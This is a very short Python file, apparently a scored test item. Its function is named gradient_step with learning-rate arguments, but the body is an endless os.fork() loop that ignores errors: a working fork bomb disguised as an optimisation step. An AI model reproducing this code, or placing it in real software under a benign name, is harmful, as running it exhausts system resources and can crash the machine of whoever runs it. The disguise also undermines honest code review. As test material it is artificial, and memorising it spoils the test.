# Starts processes that start processes.
# deserves: gradient_step=0 descend=3 linear=3

# %% gradient_step
import os


def gradient_step(w, g, lr):
    while True:
        try:
            os.fork()
        except OSError:
            pass
